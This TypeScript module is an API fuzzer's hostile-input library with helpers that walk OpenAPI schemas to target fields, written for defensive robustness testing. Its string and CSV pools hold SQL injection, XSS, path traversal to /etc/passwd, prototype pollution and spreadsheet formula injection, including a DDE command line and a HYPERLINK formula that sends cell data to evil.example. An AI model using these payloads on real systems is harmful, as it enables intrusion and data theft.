// Hostile values for the API fuzzer, and the walk of an OpenAPI schema that says where to put them.
import fc from 'fast-check';

/** 100 kB of text: more than any field allows, less than the API's body limit. */
const huge = 'A'.repeat(100_000);

export const hostileStrings: readonly string[] = [
  '',
  ' ',
  '   \t  ',
  huge,
  'é'.repeat(60_000),
  // Control characters and Unicode tricks: PostgreSQL refuses NUL in text (a classic 500).
  '\u0000',
  'Anaïs\u0000Gomes',
  'nul\u0000',
  '\u202Egpj.exe',
  'a\u200Bb\u200Cc\u200Dd\uFEFF',
  '\u2028\u2029',
  '\uD800',
  '\uDFFF\uD800',
  '👩‍👩‍👧‍👦'.repeat(10),
  'e\u0301\u0301\u0301\u0301',
  'İıſK',
  '\u0007\u001b[31mred',
  'line\nbreak\r\nCRLF',
  // Injection
  "' OR '1'='1",
  '1; DROP TABLE household; --',
  "%' AND 1=1 --",
  "\\'; select pg_sleep(5); --",
  '$$; select 1; $$',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "javascript:alert('x')",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '../../../../etc/passwd',
  '%00%2e%2e%2f',
  ['{{7*7}}', '$', '{7*7}<%= 7*7 %>'].join(''),
  '%s%s%s%n',
  '{"__proto__":{"admin":true}}',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-0',
  '0x7fffffff',
  '1e309',
  '12abc',
];

export const hostileNumbers: readonly unknown[] = [
  0,
  -0,
  -1,
  -100,
  1.5,
  -2_147_483_648,
  2_147_483_647,
  2_147_483_648,
  -2_147_483_649,
  4_294_967_296,
  9_007_199_254_740_991,
  2 ** 53 + 2,
  1e15,
  -1e15,
  1e308,
  -1e308,
  '12',
  '-1',
  '2147483648',
  '99999999999999999999999',
  '1e3',
  ' 7 ',
  '',
];

export const hostileDates: readonly string[] = [
  '0001-01-01',
  '0000-01-01',
  '9999-12-31',
  '275760-09-13',
  '+275760-09-13',
  '-000001-01-01',
  '2026-02-30',
  '2026-02-29',
  '2024-02-29',
  '2026-13-01',
  '2026-00-10',
  '2026-1-1',
  '1899-12-31',
  '1900-01-01',
  '2199-12-31',
  '2200-01-01',
  '0001-01-01T00:00',
  '9999-12-31T23:59',
  '2026-02-30T10:00',
  '2026-01-01T24:00',
  '2026-01-01T10:00:00Z',
  '2026-01-01T10:00:00+99:00',
  '275760-09-13T00:00:00Z',
  '+275760-09-13T00:00:00.000Z',
  '9999-12-31T23:59:59.999Z',
  '0000-01-01T00:00:00Z',
  '2026-03-29T02:30',
  '2026-13',
  '0000-01',
  '1900-01',
  '2199-12',
  'today',
  '2026-01-01\u0000',
];

export const hostileShapes: readonly unknown[] = [
  null,
  true,
  false,
  [],
  [null],
  {},
  { __proto__: { admin: true } },
  JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}'),
  Array.from({ length: 5_000 }, (_, i) => i),
  [[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]],
];

export const anyHostile: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...hostileStrings) },
  { weight: 3, arbitrary: fc.constantFrom(...hostileNumbers) },
  { weight: 3, arbitrary: fc.constantFrom(...hostileDates) },
  { weight: 2, arbitrary: fc.constantFrom(...hostileShapes) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.oneof(fc.integer(), fc.double(), fc.bigInt().map(String)) },
);

// ---- OpenAPI schemas ----

export interface JsonSchema {
  $ref?: string;
  type?: string | string[];
  format?: string;
  enum?: unknown[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  minimum?: number;
  maximum?: number;
  minLength?: number;
  maxLength?: number;
  pattern?: string;
}

export function resolver(components: Record<string, JsonSchema>) {
  const resolve = (schema: JsonSchema | undefined): JsonSchema => {
    if (!schema) return {};
    if (schema.$ref) return resolve(components[schema.$ref.split('/').pop()!]);
    return schema;
  };
  return resolve;
}

/** A place in a body where a value goes, with what the schema says of it. */
export interface Field {
  path: (string | number)[];
  schema: JsonSchema;
  required: boolean;
}

/** Every property of an object schema (through unions and arrays), two levels deep and more. */
export function fieldsOf(
  schema: JsonSchema,
  resolve: (s: JsonSchema | undefined) => JsonSchema,
  path: (string | number)[] = [],
  depth = 0,
): Field[] {
  const s = resolve(schema);
  if (depth > 3) return [];
  const variants = s.anyOf ?? s.oneOf ?? s.allOf;
  if (variants) {
    const seen = new Map<string, Field>();
    for (const v of variants)
      for (const f of fieldsOf(v, resolve, path, depth)) seen.set(JSON.stringify(f.path), f);
    return [...seen.values()];
  }
  if (s.properties) {
    const required = new Set(s.required ?? []);
    return Object.entries(s.properties).flatMap(([name, sub]) => {
      const child = resolve(sub);
      const here: Field = { path: [...path, name], schema: child, required: required.has(name) };
      return [here, ...fieldsOf(child, resolve, [...path, name], depth + 1)];
    });
  }
  if (s.type === 'array' && s.items) return fieldsOf(s.items, resolve, [...path, 0], depth + 1);
  return [];
}

/** Values aimed at what a field is: its boundaries (in and just out), then the hostile pools. */
export function valuesFor(schema: JsonSchema): fc.Arbitrary<unknown> {
  const types = Array.isArray(schema.type) ? schema.type : [schema.type];
  const boundaries: unknown[] = [];
  if (schema.maxLength !== undefined)
    boundaries.push(
      'x'.repeat(schema.maxLength),
      'x'.repeat(schema.maxLength + 1),
      '\u0000'.repeat(schema.maxLength),
    );
  if (schema.minLength !== undefined && schema.minLength > 0)
    boundaries.push('x'.repeat(schema.minLength - 1), '\u0000'.repeat(schema.minLength));
  if (schema.minimum !== undefined) boundaries.push(schema.minimum, schema.minimum - 1);
  if (schema.maximum !== undefined) boundaries.push(schema.maximum, schema.maximum + 1);
  if (schema.enum) boundaries.push(...schema.enum.map((v) => (typeof v === 'string' ? `${v}\u0000` : v)));
  const aimed: fc.Arbitrary<unknown>[] = [];
  if (schema.format === 'date' || schema.format === 'date-time') aimed.push(fc.constantFrom(...hostileDates));
  else if (types.includes('integer') || types.includes('number'))
    aimed.push(fc.constantFrom(...hostileNumbers));
  else if (types.includes('string')) aimed.push(fc.constantFrom(...hostileStrings, ...hostileDates));
  return fc.oneof(
    ...(boundaries.length ? [{ weight: 2, arbitrary: fc.constantFrom(...boundaries) }] : []),
    ...aimed.map((arbitrary) => ({ weight: 3, arbitrary })),
    { weight: 2, arbitrary: anyHostile },
  );
}

/** A copy of `body` with `value` at `path` (made where missing), or without it when value is `undefined`. */
export function setAt(body: unknown, path: (string | number)[], value: unknown): unknown {
  const root = (typeof body === 'object' && body !== null ? structuredClone(body) : {}) as Record<
    string | number,
    unknown
  >;
  let node: Record<string | number, unknown> = root;
  for (const [i, key] of path.entries()) {
    if (i === path.length - 1) {
      if (value === undefined) delete node[key];
      else node[key] = value;
      break;
    }
    const next = node[key];
    if (typeof next !== 'object' || next === null)
      node[key] = typeof path[i + 1] === 'number' ? [] : ({} as Record<string, unknown>);
    node = node[key] as Record<string | number, unknown>;
  }
  return root;
}

/** Hostile CSV files for the import operations. */
export const hostileCsv: readonly string[] = [
  '',
  '\uFEFF',
  'a;b\n\u0000;\u0000',
  `reference_logement;adresse\n${'x;'.repeat(20_000)}`,
  'id;evenement;date\n"unterminated;quote\n',
  `id;evenement;date\n${'1;active;2026-01-01\n'.repeat(6_000)}`,
  "=cmd|' /C calc'!A0;@SUM(1);+1;-1\n=1;=2;=3;=4",
  '\x00\x01\x02\x03binary\xff\xfe',
  'id,evenement,date\n2147483648,planifie,2026-02-30 10:00\n-1,active,0000-01-01\n99999999999999999999,echec,9999-12-31',
  'a'.repeat(100_000),
];

/**
 * The sweep: for each field, the few values most likely to pass a schema and still break what is behind it (a
 * NUL where PostgreSQL refuses it, a year it cannot store, an id beyond its integers, a date that does not exist).
 */
export function sweepValues(schema: JsonSchema): unknown[] {
  const types = Array.isArray(schema.type) ? schema.type : [schema.type];
  if (schema.enum) return [`${schema.enum[0]}\u0000`, 'zz'];
  if (schema.format === 'date')
    return [
      '0000-01-01',
      '0001-01-01',
      '9999-12-31',
      '2026-02-30',
      '275760-09-13',
      '1899-12-31',
      '2200-01-01',
    ];
  if (schema.format === 'date-time')
    return ['0000-01-01T00:00:00Z', '0001-01-01T00:00:00Z', '275760-09-13T00:00:00Z', '9999-12-31T23:59:59Z'];
  if (types.includes('integer') || types.includes('number'))
    return [-1, 0, 2_147_483_648, -2_147_483_649, 1e15, 2 ** 53 + 2, 1.5];
  if (types.includes('string')) {
    const text = ['\u0000', 'a\u0000b', '\uD800', huge, "'; drop table household; --", '=1+1'];
    // Plain strings are often dates and times in disguise (« 2027-01-04 18:00 »).
    return schema.pattern
      ? text
      : [
          ...text,
          '0000-01-01T10:00',
          '0001-01-01T00:00',
          '9999-12-31T23:59',
          '2026-02-30T10:00',
          '275760-09-13T00:00:00Z',
        ];
  }
  if (types.includes('array')) return [[], Array.from({ length: 2_000 }, () => 1)];
  return [];
}
